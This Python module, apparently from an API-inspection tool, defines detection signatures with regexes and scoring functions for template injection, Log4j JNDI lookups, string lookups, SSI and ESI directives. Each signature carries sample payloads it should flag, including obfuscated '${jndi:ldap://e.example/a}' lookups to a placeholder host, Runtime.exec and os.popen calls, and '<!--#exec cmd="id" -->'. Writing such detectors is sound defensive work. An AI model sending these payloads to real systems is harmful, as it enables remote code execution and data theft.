"""Expressions for template engines, lookups for logging libraries, includes for servers and edges."""

from __future__ import annotations

import re

from apitrail.inspect.attacks.families.script_code import mentioned, prose
from apitrail.inspect.attacks.families.template_expressions import CLOSERS, computes, inside, looks_up_names
from apitrail.inspect.attacks.signature import Signature
from apitrail.inspect.attacks.values import Value

_OF_LOGGING = re.compile(
    r"\$\{\s*(?:env|sys|java|main|ctx|date|lower|upper|k8s|docker|bundle|marker|log4j"
    r"|web)\s*:",
    re.IGNORECASE,
)
"""A lookup of a logging library, which has no business in a header."""
_OWN_OBJECT = re.compile(
    r"\s*(?:\{\{|[$#]\{|<%=)\s*(?:config|self|_self|request|settings|_context|app|lipsum|cycler|session|dump\(\)"
    r"|_dump)\s*(?:\}\}?|%>)\s*"
)
"""A whole value that is an object of the engine or the application, not of a page."""
_OF_A_PROGRAM = re.compile(r"`[^`]*$")


def _expression(value: Value, start: int, end: int) -> float:
    """An expression between signs of a template that computes, calls what an attacker would, or walks to classes."""
    text = value.text
    opener = text[start:end]
    closer = CLOSERS.get(opener[:2]) or CLOSERS.get(opener[-1:], "}")
    begin = start + (1 if opener[0] == "{" and opener[:2] not in CLOSERS else 2)
    expression, closed = inside(text, begin, closer)
    if opener[:2] == "${" and _OF_A_PROGRAM.search(text[max(0, start - 200) : start]):
        expression = expression.replace("`", "'")  # a template literal of JavaScript
    sure = computes(expression) or (0.75 if _OWN_OBJECT.fullmatch(text) else 0.0)
    if not sure or mentioned(text, start, begin + len(expression)):
        return 0.0
    if opener[:2] == "${" and sure < 0.9 and _OF_A_PROGRAM.search(text[max(0, start - 200) : start]):
        return 0.0
    return sure if closed else min(sure, 0.75)


def _directive(value: Value, start: int, end: int) -> float:
    """A directive with parentheses: its argument computes."""
    text = value.text
    expression, _ = inside(text, end, ")")
    expression = expression.partition("=")[2] or expression
    return (
        0.0
        if mentioned(text, start, end)
        else computes(expression) or computes(text[end : end + 300].partition("=")[2] if "$" in expression else "")
    )


def _function_in_braces(value: Value, start: int, end: int) -> float:
    """A function of PHP that runs something, between single braces."""
    return 0.3 if mentioned(value.text, start, end) else 0.9


def _object_graph(value: Value, start: int, end: int) -> float:
    """The way through classes to a runtime, without the signs of a template."""
    if prose(value.text, start, end) or re.search(
        r"^\s*at |Exception|Traceback", value.text[max(0, start - 300) : start], re.MULTILINE
    ):
        return 0.0
    return 0.8


def _lookup(value: Value, start: int, end: int) -> float:
    """Lookups that come to ask a naming service, in whatever pieces they are written."""
    text = value.text
    piece = text[start : start + 1000]
    if value.place == "header" and _OF_LOGGING.match(piece):
        return 0.75
    if mentioned(text, start, end):
        return 0.0
    return 0.95 if looks_up_names(piece) else 0.0


def _string_lookup(value: Value, start: int, end: int) -> float:
    """Lookups that run script or fetch an address."""
    return 0.0 if mentioned(value.text, start, end) else 0.9


def _include(value: Value, start: int, end: int) -> float:
    """A directive that a server or an edge would follow inside a page."""
    return 0.0 if mentioned(value.text, start, end) or "`" in value.text[max(0, start - 2) : start] else 0.9


SIGNATURES: tuple[Signature, ...] = (
    Signature(
        "ssti-expression",
        "ssti",
        "expression",
        r"\{\{|\{%|[$#*@~%!]\{|<%|<#[a-z]|\[#[a-z]|\[=|@\(|\{\$|\{[\s]*['\"]?\d",
        check=_expression,
        fires=(
            "{{7*7}}",
            "${7*7}",
            "#{ 3 * 3 }",
            "<%= 7 * 7 %>",
            "{{config.items()}}",
            "{{ ''.__class__.__mro__ }}",
            "${T(java.lang.Runtime).getRuntime()}",
            "{{'a'.toUpperCase()}}",
            "{% import os %}{{os.popen('id')}}",
            "<%= File.open('/etc/hosts').read %>",
            "{$smarty.version}",
            "%{(#a=@java.lang.System@getenv())}",
            "{{x.constructor.constructor('x()')()}}",
            '<#assign e="freemarker.template.utility.Execute"?new()>',
            "@(2*21)",
            "{{ request|attr('a') }}",
            "{{['id']|map('passthru')}}",
            "${{6*6}}",
            "{8*8}",
            "{{config}}",
            "<%= self %>",
        ),
        silent=(
            "Hello {{ user.name }}, your order {{order.id}} is on its way",
            "${HOME}/bin and ${amount}",
            "{% for item in items %}{{ item.title|upper }}{% endfor %}",
            "<%= user.name %>",
            "{{ 'Welcome'|t }}",
            "const s = `${a.b(1)} of ${total + 1}`",
            'image: {{ .Values.image | default "x" }}',
            "${{ secrets.TOKEN }}",
            "#{name}",
            "open {{24/7}}",
            "Write `{{ 7*7 }}` to see whether the engine of the page will compute it, as you can with {{ name }}",
            "{{#each items}}{{this}}{{/each}}",
            "${process.env.PORT}",
        ),
    ),
    Signature(
        "ssti-directive",
        "ssti",
        "directive",
        r"#(?:set|evaluate|foreach)\s*\(",
        check=_directive,
        fires=("#set($e=7*7)", "#set($x='')#set($r=$x.class.forName('java.lang.Runtime'))", "#evaluate(''.getClass())"),
        silent=("#set($name = $user.name)", "see #if (and when) it works"),
    ),
    Signature(
        "ssti-function",
        "ssti",
        "smarty",
        r"\{/?php\}|\{\s*math\s+equation\s*=|\{%-?\s*debug\s*-?%\}|\$\{\{?<%|\{\{<%|<%\[%|#evaluate\s*\(\s*[\"']?\$"
        r"|\{\s*(?:if|elseif|math|eval|assign)?\s*(?:equation=)?['\"]?(?:system|exec|"
        r"passthru|shell_exec|popen|phpinfo|file_get_contents|readfile)\s*\(",
        check=_function_in_braces,
        fires=(
            "{php}echo 1;{/php}",
            "{system('id')}",
            "{if passthru('id')}{/if}",
            "{math equation='x*y' x=7 y=7}",
            "{% debug %}",
            "${{<%[%'\"}}%\\",
            '#evaluate("$x")',
        ),
        silent=("{system: 'ok'}", "{executor(1)}"),
    ),
    Signature(
        "ssti-objects",
        "ssti",
        "objects",
        r"#_memberAccess\b|@java\.lang\.|\.getRuntime\s*\(\s*\)\s*\.\s*exec|__(?:subclasses|globals|builtins|mro"
        r"|import)__\s*[\[(.]|"
        r"\.class\.forName\s*\(|\$\w+\.(?:getClass\s*\(|class\.(?:forName|inspect|type|module))|T\(java\.lang",
        check=_object_graph,
        fires=(
            "(#_memberAccess['allowStaticMethodAccess']=true)",
            "x.getRuntime().exec('id')",
            "().__class__.__base__.__subclasses__()",
        ),
        silent=(
            "  at java.lang.Runtime.exec(Runtime.java:10)",
            "the method __subclasses__() of a class is what you use to see which of them are there",
        ),
    ),
    Signature(
        "log4j-lookup",
        "rce",
        "log4j",
        r"\$\\?\{[\s]*(?:jndi|[^{}\x00]*:|[^{}\x00]*\$\\?\{)",
        check=_lookup,
        fires=(
            "${jndi:ldap://e.example/a}",
            "${${lower:j}n${upper:d}i:rmi://e.example}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://e.example}",
            "${j${env:NOPE:-nd}i:dns://e.example}",
            "$\\{$\\{::-j\\}$\\{::-n\\}$\\{::-d\\}$\\{::-i\\}:x}",
        ),
        silent=("${VAR:-default}", "${env:STAGE}", "${jndiName}", "${lower:${user}}"),
    ),
    Signature(
        "string-lookup",
        "rce",
        "cve",
        r"\$\{\s*(?:script:[a-z]+:|url:utf-?\d+:|dns:[\w-]*(?:\||[\w-]+\.[\w.-]+))",
        check=_string_lookup,
        fires=(
            "${script:javascript:java.lang.Runtime.getRuntime()}",
            "${url:UTF-8:http://e.example}",
            "${dns:address|e.example}",
            "${dns:e.example.org}",
        ),
        silent=("${script:path}", "${url:home}", "${dns:server}"),
    ),
    Signature(
        "ssi-directive",
        "ssi",
        "directive",
        r"<!--\s*#\s*(?:exec|include|echo|printenv|set|config|fsize|flastmod|if|elif)\b",
        check=_include,
        fires=('<!--#exec cmd="id" -->', '<!-- #include virtual="/etc/hosts"-->', "<!--#printenv -->"),
        silent=("<!-- # include this later -- no, never -->"[:4] + " a comment -->", "<!--#region setup-->"),
    ),
    Signature(
        "esi-tag",
        "ssi",
        "esi",
        r"<!--esi\b|<esi:(?:include|inline|debug|vars|eval|assign|try|choose|remove|comment)\b",
        check=_include,
        fires=("<esi:include src=//e.example/>", "<esi:vars>$(HTTP_COOKIE)</esi:vars>"),
        silent=("<esic:include/>", "esi:include is what the edge reads"),
    ),
)
